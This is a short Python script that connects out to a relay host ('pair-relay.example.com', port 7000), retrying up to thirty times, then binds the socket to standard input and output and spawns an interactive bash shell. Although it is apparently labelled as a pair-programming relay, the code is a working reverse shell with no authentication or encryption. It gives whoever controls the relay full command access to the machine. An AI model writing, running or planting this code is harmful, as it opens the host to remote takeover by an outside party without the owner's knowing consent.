#!/usr/bin/env python3
import os
import pty
import socket
import time

RELAY = ("pair-relay.example.com", 7000)

for attempt in range(30):
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect(RELAY)
        break
    except OSError:
        time.sleep(10)
else:
    raise SystemExit("relay unreachable")

for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.environ["PS1"] = "pair$ "
pty.spawn("/bin/bash")
